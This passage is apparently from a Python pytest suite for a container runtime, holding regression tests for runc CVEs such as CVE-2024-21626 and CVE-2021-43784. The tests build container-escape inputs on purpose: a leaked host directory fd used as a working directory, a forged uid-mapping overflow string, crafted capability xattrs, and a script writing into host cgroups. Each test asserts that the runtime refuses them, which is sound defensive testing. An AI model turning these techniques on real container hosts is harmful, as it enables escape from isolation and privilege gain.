        assert f"{host.st_dev}:{host.st_ino}\n" not in text
        assert f"\n{program}" not in text
    assert any("working directory" in text for text in texts)


def attempt(container: lc.Container, args: list[str], cwd: str) -> str:
    try:
        return exec_inside(container, args, cwd=cwd).text
    except lc.ContainerError as error:
        return f"refused: {error}"


@attack("CVE-2024-21626", "works in, or executes from, a directory of the host's that leaked")
def test_cve_2024_21626_by_the_command(pyrunc: Pyrunc, bundle: BundleMaker, tmp_path: Path) -> None:
    program = host_only_program(tmp_path)
    directory = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    # The caller's shell left a directory of the host's open, wherever it happens to be.
    kept = [os.dup2(directory, number) for number in (17, 18)]
    try:
        one = bundle(sh("sleep 1000"))
        pyrunc("run", "--detach", "--bundle", one, "one", pass_fds=kept, check=True)
        for number in (3, 7, 17, 18):
            cwd = f"/proc/self/fd/{number}"
            for arguments in (
                ("--cwd", cwd, "one", "ls", str(program)),
                ("one", cwd + str(program)),
            ):
                done = pyrunc("exec", *arguments, pass_fds=kept)
                assert done.returncode != 0
                assert str(program) not in done.stdout
                assert "ESCAPED" not in done.stdout
        pyrunc("delete", "--force", "one", check=True)
        one.process.update(args=["ls", str(program)], cwd="/proc/self/fd/17")
        one.save()
        done = pyrunc("run", "--bundle", one, "two", pass_fds=kept)
        assert done.returncode != 0
        assert str(program) not in done.stdout
    finally:
        for fd in (directory, *kept):
            os.close(fd)


@attack("CVE-2024-21626", "works in, or executes from, a directory of the host's that leaked")
def test_cve_2024_21626_directory_that_was_passed_on_purpose(
    factory: lc.Factory, bundle: BundleMaker, tmp_path: Path
) -> None:
    directory = os.open(tmp_path, os.O_RDONLY)
    try:
        one = bundle(["pwd"], edit=lambda c: c["process"].update(cwd="/proc/self/fd/3"))
        refused = pytest.raises(lc.StepError, match="working directory")
        with create(factory, one, pass_fds=[directory]) as container, refused:
            container.start()
    finally:
        os.close(directory)


# ---- lengths ------------------------------------------------------------------------------------


LONG = "x" * 70_000


def long_destination(config: dict[str, Any]) -> None:
    config["mounts"].append({"destination": f"/{LONG}", "type": "tmpfs", "source": "tmpfs"})


def long_source(config: dict[str, Any]) -> None:
    bind(config, f"/{LONG}", "/tmp")


def long_mount_data(config: dict[str, Any]) -> None:
    config["mounts"].append(
        {"destination": "/tmp", "type": "tmpfs", "source": "tmpfs", "options": [f"mode={LONG}"]}
    )


def many_mappings(config: dict[str, Any]) -> None:
    rows = [{"containerID": 2 * n, "hostID": 700_000 + 2 * n, "size": 1} for n in range(6000)]
    add_user_namespace(config)
    config["linux"].update(uidMappings=rows, gidMappings=rows)


def long_namespace_path(config: dict[str, Any]) -> None:
    spaces = config["linux"]["namespaces"]
    spaces[:] = [each for each in spaces if each["type"] != "network"]
    spaces.append({"type": "network", "path": f"/{LONG}"})


def long_cgroups_path(config: dict[str, Any]) -> None:
    config["linux"]["cgroupsPath"] += f"/{LONG}"


def long_root(config: dict[str, Any]) -> None:
    config["root"]["path"] = f"/{LONG}"


def long_hostname(config: dict[str, Any]) -> None:
    config["hostname"] = LONG


def long_sysctl(config: dict[str, Any]) -> None:
    config["linux"]["sysctl"] = {"net.ipv4.ip_default_ttl": LONG}


def long_cwd(config: dict[str, Any]) -> None:
    config["process"]["cwd"] = f"/{LONG}"


def many_groups(config: dict[str, Any]) -> None:
    config["process"]["user"]["additionalGids"] = list(range(1, 66_000))


def long_masked_path(config: dict[str, Any]) -> None:
    config["linux"]["maskedPaths"].append(f"/{LONG}")


@attack("CVE-2021-43784", "has an over-long value be read as other settings")
@pytest.mark.parametrize(
    "lengthen",
    [
        long_destination,
        long_source,
        long_mount_data,
        many_mappings,
        long_namespace_path,
        long_cgroups_path,
        long_root,
        long_hostname,
        long_sysctl,
        long_cwd,
        many_groups,
        long_masked_path,
    ],
)
def test_cve_2021_43784_over_long_value_is_refused(
    factory: lc.Factory, bundle: BundleMaker, lengthen: Callable[[dict[str, Any]], None]
) -> None:
    with pytest.raises(lc.ContainerError) as caught:
        read_inside(factory, bundle(["true"], edit=lengthen))
    assert not isinstance(caught.value, lc.ProtocolError)
    assert len(str(caught.value)) < 200_000


@attack("CVE-2021-43784", "has an over-long value be read as other settings")
def test_cve_2021_43784_long_values_that_fit_stay_what_they_are(
    factory: lc.Factory, bundle: BundleMaker
) -> None:
    # The exploit: 64 KiB and a little more of one field, and in the little more another mapping.
    forged = "0 0 4294967295\n" * 5000
    one = bundle(sh("cat /proc/self/uid_map; echo ${#FORGED}; echo $(id -u)"))
    add_user_namespace(one.config)
    one.process["env"].append(f"FORGED={forged}")
    one.config["annotations"] = {"forged": forged, "x" * 70_000: "0 0 4294967295"}
    lines = read_inside(factory, one).lines
    expected = one.linux["uidMappings"]
    assert [line.split() for line in lines[:-2]] == [
        [str(row[key]) for key in ("containerID", "hostID", "size")] for row in expected
    ]
    assert lines[-2:] == [str(len(forged)), "0"]


# ---- capabilities -------------------------------------------------------------------------------


STATUS = ["grep", "^Cap", "/proc/self/status"]
NET_RAW, KILL, AUDIT = 1 << 13, 1 << 5, 1 << 29


@attack("CVE-2022-24769", "gains by a file what only the inheritable set would let it")
@pytest.mark.parametrize("uid", [0, 1000])
def test_cve_2022_24769_inheritable_set_is_empty_unless_asked(
    factory: lc.Factory, bundle: BundleMaker, uid: int
) -> None:
    one = bundle(STATUS)
    one.process["user"] = {"uid": uid, "gid": uid}
    sets = capability_lines(read_inside(factory, one).text)
    assert sets["Inh"] == sets["Amb"] == 0
    assert sets["Bnd"] & KILL
    with create(factory, bundle(FOREVER)) as container:
        container.start()
        for more in ({}, {"capabilities": ["CAP_NET_RAW"]}, {"user": (uid, uid)}):
            joined = capability_lines(exec_inside(container, STATUS, **more).text)
            assert joined["Inh"] == joined["Amb"] == 0


@attack("CVE-2022-24769", "gains by a file what only the inheritable set would let it")
def test_cve_2022_24769_file_with_inheritable_capabilities(
    factory: lc.Factory, bundle: BundleMaker
) -> None:
    one = bundle(["/program", *STATUS[1:]], private_rootfs=True)
    program = one.rootfs / "program"
    shutil.copy(one.rootfs / "bin/busybox", one.rootfs / "grep")
    program.symlink_to("grep")
    # linux/capability.h, vfs_cap_data of the second revision: inheritable alone, and effective.
    words = (0x02000001, 0, NET_RAW, 0, 0)
    data = b"".join(word.to_bytes(4, "little") for word in words)
    os.setxattr(one.rootfs / "grep", "security.capability", data)
    one.process.update(args=["/grep", *STATUS[1:]], user={"uid": 1000, "gid": 1000})
    one.process["noNewPrivileges"] = False
    one.process["capabilities"]["bounding"].append("CAP_NET_RAW")
    sets = capability_lines(read_inside(factory, one).text)
    assert sets["Bnd"] & NET_RAW
    assert not sets["Eff"] | sets["Prm"] | sets["Inh"]


@pytest.mark.parametrize(
    "uid",
    [
        pytest.param(0, marks=attack("CVE-2022-29162", "keeps what exec was given as inheritable")),
        pytest.param(
            1000, marks=attack("CVE-2022-27650", "keeps what exec was given as inheritable")
        ),
    ],
)
def test_cve_2022_29162_and_27650_exec_with_a_capability(
    pyrunc: Pyrunc, bundle: BundleMaker, uid: int
) -> None:
    one = bundle(FOREVER)
    pyrunc("run", "--detach", "--bundle", one, "one", check=True)
    done = pyrunc("exec", "--cap", "CAP_NET_RAW", "--user", f"{uid}:{uid}", "one", *STATUS)
    pyrunc("delete", "--force", "one", check=True)
    sets = capability_lines(done.stdout)
    assert sets["Bnd"] & NET_RAW
    assert sets["Inh"] == sets["Amb"] == 0
    assert bool(sets["Eff"] & NET_RAW) is (uid == 0)


@attack("CVE-2025-27612", "joins with ambient and inheritable capabilities nobody named")
def test_cve_2025_27612_exec_keeps_nothing(factory: lc.Factory, bundle: BundleMaker) -> None:
    everything = [f"CAP_{name}" for name in ("KILL", "NET_RAW", "AUDIT_WRITE")]
    one = bundle(FOREVER)
    one.process["capabilities"] = dict.fromkeys(EVERY_SET, everything)
    without = {"args": STATUS, "cwd": "/", "user": {"uid": 1000, "gid": 1000}}
    with create(factory, one) as container:
        container.start()
        given: list[dict[str, Any]] = [{}, {"capabilities": {}}]
        for capabilities in [*given, {"capabilities": {"bounding": everything}}]:
            process = lc.Process.from_document(
                {**without, **capabilities}, stdin=lc.DEVNULL, stdout=lc.PIPE, stderr=lc.DEVNULL
            )
            with container.exec(process):
                output, _ = process.communicate(timeout=TIMEOUT)
            sets = capability_lines((output or b"").decode())
            assert not sets["Inh"] | sets["Amb"] | sets["Eff"] | sets["Prm"]
            assert sets["Bnd"] == (
                NET_RAW | KILL | AUDIT if capabilities.get("capabilities") else 0
            )


# ---- cgroups ------------------------------------------------------------------------------------


@attack("CVE-2023-25809", "writes to the host's cgroups without a cgroup namespace of its own")
@pytest.mark.privileged_caller("gives a group of the host's to the container's root")
@pytest.mark.parametrize("sysfs", ["sysfs", "rbind"])
def test_cve_2023_25809_cgroups_are_read_only(
    factory: lc.Factory, bundle: BundleMaker, sysfs: str
) -> None:
    script = """
find /sys/fs/cgroup -mindepth 1 -type d -user 0 | while read place; do
    echo "owned $place"
    mkdir $place/evil && echo MADE
    echo 0 >$place/cgroup.procs && echo MOVED
done
echo end
"""
    one = bundle(sh(script))
    add_user_namespace(one.config)
    spaces = one.linux["namespaces"]
    one.linux["namespaces"] = [each for each in spaces if each["type"] != "cgroup"]
    if sysfs == "rbind":
        # As "spec --rootless" writes it.
        one.config["mounts"] = default.config(rootless=True)["mounts"]
    path = one.linux["cgroupsPath"]
    # A user's own groups are his, as systemd delegates them.
    give = f"find /sys/fs/cgroup -path '*{path}' -exec chown -R 300000:300000 {{}} +"
    one.config["hooks"] = {"createRuntime": [hook(give)]}
    result = read_inside(factory, one)
    owned = [line for line in result.lines if line.startswith("owned ")]
    assert owned
    assert result.lines[-1] == "end"
    assert "MADE" not in result.lines
    assert "MOVED" not in result.lines
